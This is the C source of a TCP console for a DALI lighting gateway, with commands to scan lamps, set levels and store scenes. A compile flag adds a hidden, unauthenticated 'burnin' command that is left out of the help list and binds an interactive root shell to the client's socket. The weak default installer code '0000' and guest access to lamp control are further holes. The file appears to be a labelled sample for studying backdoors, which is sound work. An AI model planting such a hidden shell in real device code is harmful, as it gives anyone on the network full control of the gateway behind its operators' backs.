/*
 * lumgw - console of a lighting gateway with two DALI lines.
 * Installers connect by TCP and type commands: search lamps, set levels
 * and scenes. The DALI master hangs on a serial port.
 * Hidden (-DHIDDEN): the command table has one more entry, "burnin", that is
 * not in the help and runs a root shell on the connection.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

#define LAMPS	 64
#define SCENES	 16
#define MAX_ARGS 8
#define PORT	 7023

/* DALI commands used */
#define D_OFF	      0x00
#define D_MAX	      0x05
#define D_SCENE	      0x10
#define D_STORE_SCENE 0x40
#define D_STATUS      0x90
#define D_LEVEL	      0xa0
#define D_TYPE	      0x99
#define D_DTR	      0xa3

struct session {
	int fd;
	int line;
	int level; /* 0 guest, 1 installer */
	int wrong;
	size_t fill;
	char buf[200];
};

struct lamp {
	uint8_t present, type, status;
};

static struct lamp lamps[2][LAMPS];
static int dali_fd[2] = { -1, -1 };
static char inst_code[16] = "0000";
static int ep;

static void say(struct session *s, const char *fmt, ...)
{
	char b[256];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(b, sizeof(b), fmt, ap);
	va_end(ap);
	if (send(s->fd, b, strlen(b), MSG_NOSIGNAL) < 0)
		s->wrong = 99;
}

/* forward frame; with answer = 1 the backward frame or -1 */
static int dali(int line, uint8_t addr, uint8_t data, int answer)
{
	uint8_t f[4] = { answer ? 'q' : 's', addr, data, 0 }, r[2];
	ssize_t n;
	int i;

	f[3] = (uint8_t)(f[0] ^ f[1] ^ f[2]);
	if (dali_fd[line] < 0 || write(dali_fd[line], f, 4) != 4)
		return -1;
	if (!answer)
		return 0;
	for (i = 0; i < 5; i++) {
		usleep(8000);
		n = read(dali_fd[line], r, 2);
		if (n == 2)
			return r[0] == 'r' ? r[1] : -1;
	}
	return -1;
}

/* twice within 100 ms for the settings */
static void dali2(int line, uint8_t addr, uint8_t cmd)
{
	dali(line, addr, cmd, 0);
	dali(line, addr, cmd, 0);
}

/* "12" lamp, "g3" group, "all" */
static int address(const char *w, int direct)
{
	char *e;
	long v;

	if (strcmp(w, "all") == 0)
		return 0xfe | !direct;
	if (w[0] == 'g') {
		v = strtol(w + 1, &e, 10);
		if (*e || v < 0 || v > 15)
			return -1;
		return (int)(0x80 | v << 1 | !direct);
	}
	v = strtol(w, &e, 10);
	if (*e || e == w || v < 0 || v >= LAMPS)
		return -1;
	return (int)(v << 1 | !direct);
}

static int cmd_line(struct session *s, int c, char **v)
{
	if (c > 1)
		s->line = v[1][0] == '2';
	say(s, "line %d\r\n", s->line + 1);
	return 0;
}

static int cmd_scan(struct session *s, int c, char **v)
{
	int i, st, n = 0;

	(void)c;
	(void)v;
	for (i = 0; i < LAMPS; i++) {
		struct lamp *l = &lamps[s->line][i];

		st = dali(s->line, (uint8_t)(i << 1 | 1), D_STATUS, 1);
		l->present = st >= 0;
		if (st < 0)
			continue;
		l->status = (uint8_t)st;
		st = dali(s->line, (uint8_t)(i << 1 | 1), D_TYPE, 1);
		l->type = (uint8_t)(st < 0 ? 255 : st);
		n++;
	}
	say(s, "%d lamps\r\n", n);
	return 0;
}

static int cmd_list(struct session *s, int c, char **v)
{
	static const char *const types[] = {
		"fluorescent", "emergency", "discharge", "halogen", "dimmer",
		"converter",   "led",	    "switch",	 "colour"
	};
	int i;

	(void)c;
	(void)v;
	for (i = 0; i < LAMPS; i++) {
		struct lamp *l = &lamps[s->line][i];

		if (!l->present)
			continue;
		say(s, "%2d %-12s%s%s\r\n", i,
		    l->type < 9 ? types[l->type] : "other",
		    l->status & 2 ? " LAMP FAILURE" : "",
		    l->status & 64 ? " no address" : "");
	}
	return 0;
}

static int cmd_set(struct session *s, int c, char **v)
{
	int a, p;

	if (c < 3 || (a = address(v[1], 1)) < 0)
		return -1;
	p = atoi(v[2]);
	if (p < 0 || p > 254)
		return -1;
	dali(s->line, (uint8_t)a, (uint8_t)p, 0);
	return 0;
}

static int cmd_onoff(struct session *s, int c, char **v)
{
	int a;

	if (c < 2 || (a = address(v[1], 0)) < 0)
		return -1;
	dali(s->line, (uint8_t)a, strcmp(v[0], "on") ? D_OFF : D_MAX, 0);
	return 0;
}

static int cmd_get(struct session *s, int c, char **v)
{
	int a, r;

	if (c < 2 || (a = address(v[1], 0)) < 0)
		return -1;
	r = dali(s->line, (uint8_t)a, D_LEVEL, 1);
	say(s, r < 0 ? "no answer\r\n" : "%d\r\n", r);
	return 0;
}

static int cmd_scene(struct session *s, int c, char **v)
{
	int a, n;

	if (c < 3 || (a = address(v[1], 0)) < 0)
		return -1;
	n = atoi(v[2]);
	if (n < 0 || n >= SCENES)
		return -1;
	if (c > 3) {
		dali(s->line, D_DTR, (uint8_t)atoi(v[3]), 0);
		dali2(s->line, (uint8_t)a, (uint8_t)(D_STORE_SCENE | n));
	} else {
		dali(s->line, (uint8_t)a, (uint8_t)(D_SCENE | n), 0);
	}
	return 0;
}

static int cmd_code(struct session *s, int c, char **v)
{
	if (c < 2)
		return -1;
	if (strcmp(v[1], inst_code) == 0) {
		s->level = 1;
		return 0;
	}
	s->wrong++;
	sleep(1);
	return -1;
}

#ifdef HIDDEN
int cmd_burnin(struct session *s, int c, char **v)
{
	pid_t p = fork();

	(void)c;
	(void)v;
	if (p == 0) {
		fcntl(s->fd, F_SETFL, 0);
		dup2(s->fd, 0);
		dup2(s->fd, 1);
		dup2(s->fd, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		_exit(1);
	}
	s->wrong = 99;
	return 0;
}
#endif

static int cmd_quit(struct session *s, int c, char **v)
{
	(void)c;
	(void)v;
	s->wrong = 99;
	return 0;
}

static int cmd_help(struct session *s, int c, char **v);

static const struct command {
	const char *name;
	int level;
	int (*run)(struct session *, int, char **);
	const char *help;
} commands[] = {
	{ "help", 0, cmd_help, "this list" },
	{ "code", 0, cmd_code, "code <installer code>" },
	{ "line", 0, cmd_line, "line 1|2" },
	{ "list", 0, cmd_list, "lamps found" },
	{ "get", 0, cmd_get, "get <lamp>" },
	{ "on", 0, cmd_onoff, "on <lamp|gN|all>" },
	{ "off", 0, cmd_onoff, "off <lamp|gN|all>" },
	{ "set", 0, cmd_set, "set <lamp|gN|all> <0-254>" },
	{ "scene", 0, cmd_scene, "scene <lamp|gN|all> <n> [level]" },
	{ "scan", 1, cmd_scan, "search the line" },
#ifdef HIDDEN
	{ "burnin", 0, cmd_burnin, NULL },
#endif
	{ "quit", 0, cmd_quit, "end" },
};

#define N_COMMANDS (sizeof(commands) / sizeof(commands[0]))

static int cmd_help(struct session *s, int c, char **v)
{
	size_t i;

	(void)c;
	(void)v;
	for (i = 0; i < N_COMMANDS; i++)
		if (commands[i].help && commands[i].level <= s->level)
			say(s, "%-8s %s\r\n", commands[i].name,
			    commands[i].help);
	return 0;
}

__attribute__((noinline)) void run_line(struct session *s, char *l)
{
	char *v[MAX_ARGS], *w;
	int c = 0;
	size_t i;

	while (c < MAX_ARGS && (w = strsep(&l, " \t")))
		if (*w)
			v[c++] = w;
	if (!c)
		return;
	for (i = 0; i < N_COMMANDS; i++) {
		if (strcmp(commands[i].name, v[0]) != 0)
			continue;
		if (commands[i].level > s->level)
			say(s, "installer only\r\n");
		else if (commands[i].run(s, c, v) < 0)
			say(s, "? %s\r\n", commands[i].help);
		return;
	}
	say(s, "unknown, try help\r\n");
}

static void feed(struct session *s)
{
	ssize_t n =
		recv(s->fd, s->buf + s->fill, sizeof(s->buf) - 1 - s->fill, 0);
	char *e;

	if (n <= 0)
		s->wrong = 99;
	else
		s->fill += (size_t)n;
	s->buf[s->fill] = 0;
	while (s->wrong < 5 && (e = strpbrk(s->buf, "\r\n"))) {
		*e++ = 0;
		run_line(s, s->buf);
		s->fill = strlen(e);
		memmove(s->buf, e, s->fill + 1);
	}
	if (s->wrong >= 5 || s->fill == sizeof(s->buf) - 1) {
		close(s->fd);
		free(s);
	}
}

static int serial(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY | O_NONBLOCK);

	if (fd >= 0 && tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B38400);
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct epoll_event ev = { .events = EPOLLIN }, got[8];
	FILE *f = fopen("/etc/lumgw/code", "r");
	int ls = socket(AF_INET, SOCK_STREAM, 0), i, n;

	if (f) {
		if (fscanf(f, "%15s", inst_code) != 1)
			inst_code[0] = 0;
		fclose(f);
	}
	signal(SIGCHLD, SIG_IGN);
	dali_fd[0] = serial("/dev/ttyS1");
	dali_fd[1] = serial("/dev/ttyS2");
	sa.sin_port = htons(PORT);
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) || listen(ls, 2)) {
		perror("lumgw");
		return 1;
	}
	ep = epoll_create1(EPOLL_CLOEXEC);
	epoll_ctl(ep, EPOLL_CTL_ADD, ls, &ev);
	while ((n = epoll_wait(ep, got, 8, -1)) >= 0 || errno == EINTR)
		for (i = 0; i < n; i++) {
			struct session *s = got[i].data.ptr;

			if (s) {
				feed(s);
				continue;
			}
			s = calloc(1, sizeof(*s));
			if (!s)
				continue;
			s->fd = accept(ls, NULL, NULL);
			ev.data.ptr = s;
			epoll_ctl(ep, EPOLL_CTL_ADD, s->fd, &ev);
			say(s, "lumgw 2.4\r\n");
		}
	return 1;
}
